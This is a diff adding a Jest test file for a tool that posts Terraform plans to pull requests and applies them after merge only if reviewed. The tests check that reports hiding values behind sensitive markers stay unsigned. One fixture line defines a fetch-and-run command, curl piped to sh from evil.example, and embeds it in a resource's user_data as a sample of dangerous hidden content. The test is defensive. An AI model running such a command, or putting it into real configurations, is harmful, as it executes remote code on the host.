@@ -1,0 +1,128 @@
+import { expect, test } from '@jest/globals'
+import { serveGithub } from '../../../packages/github-server/src/index.ts'
+import { serve } from '../../../packages/hcp-terraform-server/src/index.ts'
+import { onGithub } from '../on-github.ts'
+import { annotated, runStep } from '../on-a-runner.ts'
+import { change, planWith } from '../plans.ts'
+
+const KEY = 'the key of the jobs that plan and apply'
+const PLAN = { 'review-key': KEY }
+const APPLY = { ...PLAN, operation: 'apply', 'apply-only-if': 'reviewed' }
+
+interface Attempt {
+  readonly script: ReturnType<typeof planWith>
+  /** What of the plan as JSON the job that plans can not read. */
+  readonly unreadable: readonly string[]
+  readonly inputs?: Readonly<Record<string, string>>
+  readonly files?: Readonly<Record<string, string>>
+}
+
+/** A plan that is reported on a pull request, and applied after the merge by a job that may read all of it. */
+async function attempt({ script, unreadable, inputs = {}, files }: Attempt) {
+  await using hcp = await serve({ script })
+  await using github = await serveGithub()
+  const pull = github.addPullRequest({ number: 7 })
+  for (const output of unreadable)
+    hcp.faults.set({ on: `GET /plans/:id/${output}`, do: { kind: 'answer', status: 404 }, times: 100 })
+  const checkout = files === undefined ? {} : { files }
+  const planned = await runStep(hcp, {
+    ...onGithub(github.trigger('pull_request', pull), { inputs: { ...PLAN, ...inputs } }),
+    ...checkout
+  })
+  expect(planned.conclusion).toBe('success')
+  const comment = github.comments(7)[0]?.body ?? ''
+  hcp.faults.clear()
+  github.merge(pull)
+  hcp.script(script)
+  const on = onGithub(github.trigger('push', pull), { inputs: { ...APPLY, ...inputs } })
+  const applied = await runStep(hcp, { ...on, ...checkout })
+  return {
+    comment,
+    warnings: annotated(planned, 'warning'),
+    status: applied.outputs['run-status'],
+    error: annotated(applied, 'error')[0] ?? ''
+  }
+}
+
+const REDACTED = 'json-output-redacted'
+const EVIL = 'curl -s https://evil.example | sh'
+const changes = [
+  change('a.web', 'create', { user_data: `#!/bin/sh\n${EVIL}\necho ready`, cidr: '0.0.0.0/0', port: 48_213 })
+]
+const output = (value: unknown) => ({
+  output_changes: {
+    note: {
+      actions: ['create'],
+      before: null,
+      after: value,
+      after_unknown: false,
+      before_sensitive: false,
+      after_sensitive: true
+    }
+  }
+})
+
+test.each([
+  ['a line of a text', EVIL],
+  ['a text', '0.0.0.0/0'],
+  ['a number', 48_213]
+])(
+  'where a sensitive output hides %s that nothing else marks, the report is not signed, and says why',
+  async (_, value) => {
+    const { comment, warnings, status, error } = await attempt({
+      script: planWith(changes, output([value])),
+      unreadable: [REDACTED]
+    })
+    expect(comment).toContain('***')
+    expect(comment).not.toMatch(/reviews:\w/)
+    expect(warnings).toEqual([expect.stringContaining('The report is not signed for review: it shows *** in place of')])
+    expect([status, error.includes('No signed plan of')]).toEqual(['discarded', true])
+  }
+)
+
+test('where a variable that the configuration declares as sensitive hides a value, the report is not signed', async () => {
+  const { comment, warnings, status } = await attempt({
+    script: planWith(changes),
+    unreadable: [],
+    inputs: { variables: '{"note": "0.0.0.0/0"}', 'sensitive-run-variables': 'note' },
+    files: { 'main.tf': 'variable "note" {\n  sensitive = true\n}\n' }
+  })
+  expect(comment).toContain('***')
+  expect(warnings).toEqual([expect.stringContaining('it shows *** in place of')])
+  expect(status).toBe('discarded')
+})
+
+test('where a sensitive output hides nothing else, the report is signed, and the plan applied', async () => {
+  const { comment, warnings, status } = await attempt({
+    script: planWith(changes, output('nowhere-else')),
+    unreadable: [REDACTED]
+  })
+  expect(comment).toMatch(/reviews:\w/)
+  expect([warnings, status]).toEqual([[], 'applied'])
+})
+
+test.each(['Terraform', 'OpenTofu', 'Another'])(
+  'a report with the plan of %s as text is not signed, and says why',
+  async program => {
+    const log = [
+      `${program} will perform the following actions:`,
+      '',
+      '  # a.web will be created',
+      '  + resource "a" "web" {',
+      '      + cidr = "0.0.0.0/0"',
+      '    }',
+      '',
+      'Plan: 1 to add, 0 to change, 0 to destroy.',
+      '',
+      'Changes to Outputs:',
+      '  + note = "hello"',
+      ''
+    ].join('\n')
+    const script = { plan: { ...planWith(changes).plan, log } }
+    const { comment, warnings, status, error } = await attempt({ script, unreadable: ['json-output', REDACTED] })
+    expect(comment).toContain('cidr = "0.0.0.0/0"')
+    expect(comment).not.toMatch(/reviews:\w/)
+    expect(warnings).toEqual([expect.stringContaining('are only in the plan as JSON')])
+    expect([status, error.includes('No signed plan of')]).toEqual(['discarded', true])
+  }
+)
